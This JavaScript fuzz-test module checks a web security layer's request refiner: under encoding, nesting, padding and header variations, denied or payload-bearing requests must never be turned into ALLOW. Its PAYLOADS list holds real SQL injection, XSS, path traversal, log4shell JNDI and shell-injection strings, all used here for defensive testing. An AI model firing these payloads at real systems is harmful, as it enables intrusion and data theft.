// The adversarial property, shared by the bounded test (adversarial.test.mjs) and the long run
// (npm run fuzz:adversarial): requests the rules correctly denied, and requests carrying real
// payloads, under every change a hostile client (or an app that copies its numbers) can make —
// context numbers at their extremes, headers in every shape and case with extra headers, the
// payload nested anywhere in the body, padded, encoded — must never come out ALLOW.
import fc from 'fast-check'

export const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36'
const CHROME_HEADERS = {
  host: 'shop.example',
  'sec-ch-ua': '"Google Chrome";v="131", "Chromium";v="131", "Not_A Brand";v="24"',
  'sec-ch-ua-mobile': '?0',
  'sec-ch-ua-platform': '"Windows"',
  'user-agent': CHROME,
  accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
  'sec-fetch-site': 'same-origin',
  'sec-fetch-mode': 'navigate',
  'sec-fetch-dest': 'document',
  'accept-encoding': 'gzip, deflate, br, zstd',
  'accept-language': 'en-US,en;q=0.9',
  cookie: 'sid=abc',
}
const result = (type, conclusion, extra = {}) => ({ state: 'RUN', conclusion, reason: { type, ...extra } })
const shieldDeny = { conclusion: 'DENY', reason: { type: 'SHIELD', shieldTriggered: true }, results: [result('SHIELD', 'DENY', { shieldTriggered: true }), result('BOT', 'ALLOW', { allowed: [], denied: [] })], ip: {} }
const botDeny = (denied) => ({ conclusion: 'DENY', reason: { type: 'BOT', denied }, results: [result('BOT', 'DENY', { denied, allowed: [], verified: false, spoofed: false })], ip: {} })
const allow = { conclusion: 'ALLOW', reason: { type: 'RATE_LIMIT', max: 60, remaining: 50 }, results: [result('SHIELD', 'ALLOW', { shieldTriggered: false }), result('BOT', 'ALLOW', { allowed: [], denied: [] })], ip: {} }

/** Real payloads (sqlmap's boundaries, XSStrike's and OWASP's classics), placed by the generator. */
export const PAYLOADS = [
  "1' AND 1=1 UNION ALL SELECT NULL,CONCAT(0x7176,0x71),NULL-- -",
  "1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71))s), 8446744073709551610, 8446744073709551610)))",
  "admin' OR '1'='1'-- ",
  '<svg/onload=alert(1)>',
  '"><img src=x onerror=confirm(document.domain)>',
  '<details open ontoggle=prompt(1)>',
  '../../../../../../etc/passwd',
  '${jndi:ldap://203.0.113.9:1389/a}',
  '; cat /etc/passwd #',
]

/** Indices of PAYLOADS that must start their value. */
const UNQUOTED = new Set([1])

/**
 * The fixed set: what the rules rightly denied (a confirmed payload behind the shield, clients
 * that declare a program behind the bot rule, rules the refiner cannot read) and what carries a
 * real payload whatever the rules said. Each is `{ name, decision, request }`; the payload goes
 * where the generator puts it.
 */
export const FIXED = [
  { name: 'shield DENY, sqlmap payload', decision: shieldDeny, headers: CHROME_HEADERS, payload: 0 },
  { name: 'shield DENY, XSS', decision: shieldDeny, headers: CHROME_HEADERS, payload: 4 },
  { name: 'shield DENY, traversal', decision: shieldDeny, headers: CHROME_HEADERS, payload: 6 },
  { name: 'bot DENY, python-requests', decision: botDeny(['PYTHON_REQUESTS']), headers: { host: 'shop.example', 'user-agent': 'python-requests/2.32.3', 'accept-encoding': 'gzip, deflate', accept: '*/*', connection: 'keep-alive' }, email: 'xk3j9q2m@mailinator.com' },
  { name: 'bot DENY, curl', decision: botDeny(['CURL']), headers: { host: 'shop.example', 'user-agent': 'curl/8.5.0', accept: '*/*' } },
  { name: 'bot DENY, HeadlessChrome', decision: botDeny(['HEADLESS_CHROME']), headers: { ...CHROME_HEADERS, 'user-agent': CHROME.replace('Chrome/', 'HeadlessChrome/') } },
  { name: 'bot DENY, a spoofed Googlebot', decision: { ...botDeny(['GOOGLE_CRAWLER']), results: [result('BOT', 'DENY', { denied: ['GOOGLE_CRAWLER'], allowed: [], verified: false, spoofed: true })] }, headers: { host: 'shop.example', 'user-agent': 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', accept: '*/*' } },
  { name: 'bot DENY, a bare Mozilla/5.0', decision: botDeny(['UNKNOWN']), headers: { ...CHROME_HEADERS, 'user-agent': 'Mozilla/5.0 (compatible)' } },
  { name: 'a bare custom DENY', decision: { conclusion: 'DENY' }, headers: CHROME_HEADERS },
  { name: 'a filter rule DENY', decision: { conclusion: 'DENY', reason: { type: 'FILTER' }, results: [result('FILTER', 'DENY')] }, headers: CHROME_HEADERS },
  { name: 'a sensitive-info DENY', decision: { conclusion: 'DENY', reason: { type: 'SENSITIVE_INFO' }, results: [result('SENSITIVE_INFO', 'DENY', { denied: ['CREDIT_CARD_NUMBER'], allowed: [] })] }, headers: CHROME_HEADERS },
  { name: 'rules ALLOW, sqlmap payload', decision: allow, headers: CHROME_HEADERS, payload: 1 },
  { name: 'rules ALLOW, XSS', decision: allow, headers: CHROME_HEADERS, payload: 5 },
  { name: 'no rules, admin bypass', decision: null, headers: CHROME_HEADERS, payload: 2 },
  { name: 'no rules, log4shell', decision: null, headers: CHROME_HEADERS, payload: 7 },
]

/** Context numbers a hostile client's numbers could become if an app copied them: every extreme. */
const count = fc.oneof(fc.constantFrom(0, 1, 7, 1e5, 1e9, Number.MAX_SAFE_INTEGER, 1.7e308), fc.double({ min: 0, max: 1e12, noNaN: true }))
const context = fc.record(
  {
    route: fc.constantFrom('other', 'signup', 'login', 'checkout', 'api'),
    sessionAgeS: count,
    sessionRequests: count,
    pagesSeen: count,
    failedLogins: count,
    accountAgeDays: count,
    emailVerified: fc.boolean(),
    formFillMs: count,
    cartValue: count,
    paymentAttempts: count,
    loggedIn: fc.boolean(),
    accountId: fc.constantFrom('u-1', 'admin', ''),
    sessionId: fc.constantFrom('s-1', ''),
  },
  { requiredKeys: [] },
)

/** Wraps `value` `depth` levels deep in objects and arrays, with benign neighbours. */
const nest = (value, path) => path.reduce((inner, step) => (step === 'array' ? ['ok', inner, 42] : { keep: 'benign', [step]: inner }), value)
const padding = fc.constantFrom(0, 1000, 9000, 40000)
const placement = fc.record({
  where: fc.constantFrom('query', 'path', 'json', 'json-string', 'form', 'header', 'cookie'),
  path: fc.array(fc.constantFrom('array', 'user', 'data', 'items'), { maxLength: 25 }),
  padBefore: padding,
  padAfter: padding,
  encode: fc.constantFrom('none', 'url', 'double', 'upper', 'lower'),
})

const encoded = (text, how) => (how === 'url' ? encodeURIComponent(text) : how === 'double' ? encodeURIComponent(encodeURIComponent(text)) : how === 'upper' ? text.toUpperCase() : how === 'lower' ? text.toLowerCase() : text)

/** The request of fixed case `c` with its payload placed as `p`. */
function request(c, p, extra) {
  const headers = { ...c.headers, ...extra }
  const req = { ip: '198.51.100.23', method: 'GET', path: '/products', headers, ...(c.email ? { email: c.email } : {}) }
  if (c.payload === undefined) return req
  // Upper- and lower-casing keep SQL, HTML and paths what they are; not a log4shell lookup or a shell command.
  const recase = p.encode === 'upper' || p.encode === 'lower' ? (c.payload < 7 ? p.encode : 'none') : 'none'
  const text = encoded(PAYLOADS[c.payload], recase)
  const inUrl = encoded(text, p.encode === 'double' ? 'double' : 'url')
  const pad = (n) => 'x'.repeat(n)
  // An unquoted numeric injection only works at the start of the value (`xxx1 AND …` is a column
  // name to SQL); every other payload works wherever it sits in the value.
  const before = UNQUOTED.has(c.payload) ? 0 : p.padBefore
  const body = nest(`${pad(before)}${p.encode === 'url' || p.encode === 'double' ? inUrl : text}${pad(p.padAfter)}`, p.path)
  switch (p.where) {
    case 'query':
      req.path = `/products?id=${inUrl}`
      break
    case 'path':
      req.path = `/products/${inUrl}`
      break
    case 'json':
      Object.assign(req, { method: 'POST', body })
      break
    case 'json-string':
      Object.assign(req, { method: 'POST', body: JSON.stringify(body) })
      break
    case 'form':
      Object.assign(req, { method: 'POST', body: `a=${pad(before)}&q=${inUrl}&b=${pad(p.padAfter)}` })
      break
    case 'header':
      headers['x-forwarded-host'] = text
      break
    default:
      headers.cookie = `sid=abc; pref=${inUrl}`
  }
  return req
}

/** The same headers in another shape a framework hands over. */
function reshape(headers, shape, upper) {
  const pairs = Object.entries(headers).map(([n, v]) => [upper ? n.replace(/(^|-)(\w)/g, (m) => m.toUpperCase()) : n, v])
  switch (shape) {
    case 'raw':
      return pairs.flat()
    case 'pairs':
      return pairs
    case 'map':
      return new Map(pairs)
    case 'headers':
      return new Headers(pairs.filter(([, v]) => !/[^\x20-\x7e]/.test(v)))
    default:
      return Object.fromEntries(pairs)
  }
}

/** One try: a fixed case under a hostile variation. */
export const tries = fc.record({
  at: fc.nat({ max: FIXED.length - 1 }),
  context: fc.option(context, { nil: undefined }),
  placement,
  shape: fc.constantFrom('object', 'raw', 'pairs', 'map', 'headers'),
  upper: fc.boolean(),
  // A real browser's user agent sent beside the case's own, before or after it (an array value).
  secondUa: fc.constantFrom('none', 'before', 'after'),
  extra: fc.dictionary(fc.constantFrom('x-requested-with', 'dnt', 'priority', 'x-custom', 'referer', 'origin'), fc.constantFrom('1', 'XMLHttpRequest', 'https://shop.example/', 'u=0, i')),
})

/** Refines one try; returns [the case's name, the refined decision]. */
export function attempt(refiners, t) {
  const c = FIXED[t.at]
  const req = request(c, t.placement, t.extra)
  const ua = req.headers['user-agent']
  if (t.secondUa !== 'none') req.headers['user-agent'] = t.secondUa === 'before' ? [CHROME, ua] : [ua, CHROME]
  req.headers = reshape(req.headers, t.shape, t.upper)
  const profile = { signup: 'signup', login: 'login', checkout: 'checkout', api: 'api' }[t.context?.route] ?? 'default'
  return [c.name, refiners[profile].refine(c.decision, { request: req, context: t.context })]
}
